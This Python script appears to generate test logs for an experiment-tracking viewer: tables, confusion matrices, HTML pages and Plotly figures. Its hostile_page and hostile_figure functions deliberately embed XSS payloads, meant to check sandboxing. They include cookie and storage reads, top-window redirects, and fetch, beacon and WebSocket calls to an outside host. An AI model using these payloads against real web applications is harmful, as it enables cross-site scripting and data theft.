"""Writes the log of the tests of tables, matrices, pages and figures: write_tables.py DIRECTORY ELSEWHERE.

ELSEWHERE is the address of another server, which the hostile page and the hostile figure try to reach.
"""

from __future__ import annotations

import math
import sys
from pathlib import Path

import numpy as np
import plotly.express as px
import plotly.graph_objects as go

from sightline import SummaryWriter

ROWS = 20_000
CLASSES = ["cat", "dog", "horse", "ship"]
COUNTS = [[44, 5, 1, 0], [12, 30, 8, 0], [2, 6, 42, 0], [0, 0, 0, 50]]


def samples(step: int) -> list[dict[str, object]]:
    random = np.random.default_rng(step)
    found = []
    for number in range(6):
        yy, xx = np.mgrid[:40, :60]
        picture = np.stack([xx * 4, yy * 6, np.full_like(xx, number * 40)], axis=-1).astype(np.uint8)
        found.append(
            {
                "picture": picture,
                "label": CLASSES[number % 4],
                "score": [0.75, math.nan, None, 0.125, 0.5, 1.0][number] if step else float(random.random()),
                "note": "x" * 3000 if number == 5 else "=1+1" if number == 4 else f"note {number}",
            }
        )
    return found


def hostile_page(elsewhere: str) -> str:
    """Tries everything, and writes what worked into its own body: nobody else can see it."""
    return f"""<!doctype html><html><head>
<link rel="stylesheet" href="{elsewhere}/style.css">
<style>
body {{ background: #fff; color: #222; font-family: sans-serif }}
h1 {{ background: url({elsewhere}/style.png) }}
</style>
<script src="{elsewhere}/script.js"></script>
<meta http-equiv="refresh" content="3;url={elsewhere}/refresh">
</head><body><h1>Report</h1>
<img src="{elsewhere}/image.png" alt=""><iframe src="{elsewhere}/frame"></iframe>
<form id="form" action="{elsewhere}/form" method="post"><input name="a" value="b"></form>
<a id="away" href="{elsewhere}/link">a link to elsewhere</a>
<a id="scripts" href="page?run=0&amp;tag=pages/report&amp;index=0&amp;step=0&amp;scripts=true">scripts</a>
<a id="file" href="data:text/plain,x" download="x.txt">a download</a>
<p id="ran">scripts are off</p>
<script>
const done = [];
const attempt = async (name, action) => {{
  try {{
    const got = await action();
    done.push(name + ': ' + (got === undefined ? 'nothing' : String(got).slice(0, 40)));
  }} catch (error) {{
    done.push(name + ': refused');
  }}
}};
(async () => {{
  await attempt('parent', () => parent.document.title);
  await attempt('top', () => {{ top.location.href = '{elsewhere}/top'; }});
  await attempt('cookie', () => document.cookie);
  await attempt('storage', () => localStorage.length);
  await attempt('api', () => fetch(location.href.replace(/tables.page.*/, 'runs')));
  await attempt('fetch', () => fetch('{elsewhere}/fetch', {{ mode: 'no-cors' }}));
  await attempt('beacon', () => navigator.sendBeacon('{elsewhere}/beacon', 'x'));
  await attempt('socket', () => new Promise((resolve, reject) => {{
    const socket = new WebSocket('{elsewhere}'.replace('http', 'ws'));
    socket.onopen = () => resolve('open'); socket.onerror = () => reject(new Error());
  }}));
  await attempt('popup', () => {{ if (window.open('{elsewhere}/popup') === null) throw new Error(); }});
  await attempt('worker', () => new Promise((resolve, reject) => {{
    const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));
    worker.onmessage = () => resolve('runs'); worker.onerror = () => reject(new Error());
  }}));
  document.getElementById('form').submit();
  document.getElementById('file').click();
  const image = new Image(); image.src = '{elsewhere}/new-image';
  document.getElementById('ran').textContent = done.join(' | ');
  document.body.style.minHeight = '900px';
}})();
</script></body></html>"""


def hostile_figure(elsewhere: str) -> dict[str, object]:
    evil = f"<a href=\"javascript:top.location='{elsewhere}/js'\">x</a>"
    evil += f"<img src=x onerror=\"fetch('{elsewhere}/onerror')\">"
    return {
        "data": [{"y": [1, 3, 2], "name": evil, "hovertemplate": evil, "type": "scatter"}],
        "layout": {
            "title": {"text": f"Hostile {evil}"},
            "images": [{"source": f"{elsewhere}/layout-image.png", "xref": "paper", "yref": "paper",
                        "x": 0, "y": 1, "sizex": 1, "sizey": 1}],
            "annotations": [{"text": f"<a href='{elsewhere}/annotation'>leave</a>", "x": 1, "y": 2}],
        },
    }  # fmt: skip


def main() -> None:
    root, elsewhere = Path(sys.argv[1]), sys.argv[2]
    for run, shift in (("alpha", 0), ("beta", 1)):
        with SummaryWriter(root / run) as writer:
            writer.add_scalar("train/loss", 1.0, 0)
            for step in (0, 10, 20):
                writer.add_table("eval/samples", samples(step), step)
                counts = np.array(COUNTS)
                counts[0, 1] += step + shift
                writer.add_confusion_matrix("eval/confusion", counts, step, labels=CLASSES)
    with SummaryWriter(root / "alpha") as writer:
        numbers = np.arange(ROWS)
        writer.add_table(
            "big/rows",
            {
                "number": numbers,
                "square": (numbers.astype(float) / 7) ** 2,
                "word": [f"word {(number * 7919) % ROWS:05}" for number in numbers],
            },
            0,
        )
        writer.add_table("big/wide", [[i * j for j in range(200)] for i in range(40)], 0)
        many = 300
        random = np.random.default_rng(0)
        matrix = random.poisson(0.2, (many, many)) + np.diag(random.integers(20, 60, many))
        writer.add_confusion_matrix("big/classes", matrix, 0, labels=[f"class {i}" for i in range(many)])
        writer.add_html("pages/report", hostile_page(elsewhere), 0)
        writer.add_html("pages/fragment", "<table><tr><th>metric</th><td>0.93</td></tr></table>", 0)
        lines = "".join(f"<p>line {number}</p>" for number in range(40))
        writer.add_html("pages/long", f"<script>document.body.textContent = 'ran'</script>{lines}", 0)
        frame = px.scatter(x=[1, 2, 3, 4], y=[2, 1, 4, 3], color=["a", "b", "a", "b"], title="Real figure")
        writer.add_plotly("figures/real", frame, 0)
        writer.add_plotly("figures/real", px.bar(x=["p", "q"], y=[3, 5], title="Second step"), 5)
        points = go.Scattergl(x=list(range(200)), y=list(np.sin(np.arange(200) / 9)), mode="markers")
        writer.add_plotly("figures/gl", go.Figure(points), 0)
        writer.add_plotly("figures/space", go.Figure(go.Scatter3d(x=[1, 2], y=[3, 4], z=[5, 6])), 0)
        writer.add_plotly("figures/hostile", hostile_figure(elsewhere), 0)


if __name__ == "__main__":
    main()
